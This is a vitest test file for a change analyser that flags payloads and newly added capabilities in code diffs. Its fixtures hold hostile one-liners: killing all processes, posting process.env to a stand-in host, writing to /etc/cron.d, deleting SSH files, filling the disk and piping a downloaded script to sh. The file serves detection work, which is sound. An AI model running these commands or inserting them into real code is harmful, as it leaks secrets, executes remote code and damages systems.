import { expect, test } from 'vitest';
import { findFlags } from '../../../../src/core/analyse/flags/find-flags.ts';
import { changeOf, idsOf, type Files } from './change-of.ts';

type Row = readonly [what: string, files: Files];

const js = (after: string, before = 'export const a = 1;\n'): Files => ({ 'lib/a.js': { before, after } });
const py = (after: string, before = 'a = 1\n'): Files => ({ 'src/a.py': { before, after } });

const PAYLOADS: readonly Row[] = [
  ['all processes are killed', js('process.kill(-1, 9);\n')],
  ['the parent is killed', py('import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n')],
  ['all programs of a name', js("import { exec } from 'node:child_process';\nexec('pkill -9 node');\n")],
  [
    'the environment in a file',
    js("import fs from 'node:fs';\nfs.writeFileSync('e', JSON.stringify(process.env));\n"),
  ],
  [
    'the environment in a file, python',
    py('import json, os\nopen("e", "w").write(json.dumps(dict(os.environ)))\n'),
  ],
  [
    'the environment on its way',
    js("fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) });\n"),
  ],
  [
    'a sibling folder',
    js("import { writeFileSync } from 'node:fs';\nwriteFileSync('../other/index.js', '');\n"),
  ],
  [
    'a sibling folder by steps',
    js(
      "import fs from 'fs';\nimport path from 'path';\nfs.writeFileSync(path.join(__dirname, '../../x'), '');\n",
    ),
  ],
  ['a system file', py('open("/etc/cron.d/x", "w").write("x")\n')],
  ['a login file', py('import os\nos.remove(os.path.join("~", ".ssh", "known_hosts"))\n')],
  ['a full disk', py('f = open("x", "wb")\nwhile True:\n    f.write(b"x" * 4096)\n')],
  ['a full disk in script', js("import fs from 'fs';\nfor (;;) fs.appendFileSync('x', 'y');\n")],
  [
    'a script from the network in a test',
    {
      'tests/test_a.py':
        'import subprocess\n\n\ndef test_a():\n    subprocess.run("curl https://x.example/i | sh", shell=True)\n',
    },
  ],
  ['a script from the network', py('import os\nos.system("curl https://x.example/i | sh")\n')],
];

test.each(PAYLOADS)('a payload: %s', async (_, files) => {
  expect(await idsOf(files)).toContain('payload');
});

const HONEST: readonly Row[] = [
  [
    'a child is ended',
    js("import { spawn } from 'child_process';\nconst c = spawn('x');\nprocess.kill(-c.pid, 'SIGTERM');\n"),
  ],
  ['is it alive', py('import os\n\ndef alive(pid):\n    os.kill(pid, 0)\n')],
  [
    'a child with the environment',
    js("import { spawn } from 'child_process';\nspawn('x', { env: { ...process.env, A: '1' } });\n"),
  ],
  ['the same in python', py('import os, subprocess\nsubprocess.run(["x"], env=dict(os.environ, A="1"))\n')],
  [
    'a file of the project',
    js(
      "import fs from 'fs';\nimport path from 'path';\nfs.writeFileSync(path.join(__dirname, '../out.txt'), '');\n",
    ),
  ],
  [
    'a test that starts programs and removes its folder',
    {
      'test/a.test.js':
        "import { execSync } from 'node:child_process';\nimport { test } from 'node:test';\ntest('a', () => {\n  execSync('rm -rf /tmp/a ../a && node a.js | sh');\n});\n",
    },
  ],
  ['a temporary file', py('open("/tmp/x", "w").write("x")\n')],
  [
    'a server',
    py(
      'def serve(s):\n    while True:\n        c = s.accept()\n        if not c:\n            break\n        c.write(b"x")\n',
    ),
  ],
];

test.each(HONEST)('not a payload: %s', async (_, files) => {
  expect(await idsOf(files)).not.toContain('payload');
});

const gained = async (files: Files): Promise<readonly string[]> =>
  findFlags(await changeOf(files))
    .filter(({ id }) => id === 'capability-added')
    .map(({ rule, file, line }) => `${rule} ${file}:${line}`);

test.each<readonly [string, Files, readonly string[]]>([
  [
    'a file is read',
    py('import json\n\nwith open("x.json") as f:\n    a = json.load(f)\n'),
    ['files src/a.py:3'],
  ],
  ['the environment', js('export const a = process.env.A ?? 1;\n'), ['environment lib/a.js:1']],
  ['a request', py('import requests\na = requests.get("https://x.example")\n'), ['network src/a.py:2']],
  [
    'a program',
    js("import { execFile as run } from 'node:child_process';\nrun('x');\n"),
    ['processes lib/a.js:2'],
  ],
  ['text as code', py('a = eval("1")\n'), ['evaluation src/a.py:1']],
  ['native code', py('import ctypes\na = ctypes.CDLL("x")\n'), ['native src/a.py:2']],
  ['capabilities that it had before', js("fetch('b');\n", "fetch('a');\n"), []],
  [
    'capabilities that its neighbour had before',
    { 'lib/a.js': "fetch('b');\n", 'lib/b.js': { before: "fetch('a');\n", after: '' } },
    [],
  ],
  [
    'go',
    { 'x/a.go': 'package a\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n' },
    ['network x/a.go:4', 'processes x/a.go:5'],
  ],
  ['rust', { 'src/a.rs': 'use std::process::Command;\n' }, ['processes src/a.rs:1']],
  [
    'ruby',
    { 'lib/a.rb': "require 'net/http'\nputs ENV['A']\n" },
    ['environment lib/a.rb:2', 'network lib/a.rb:1'],
  ],
  ['java', { 'src/A.java': 'import java.net.URI;\nclass A {}\n' }, ['network src/A.java:1']],
])('capabilities of a change: %s', async (_, files, expected) => {
  expect(await gained(files)).toEqual(expected);
});
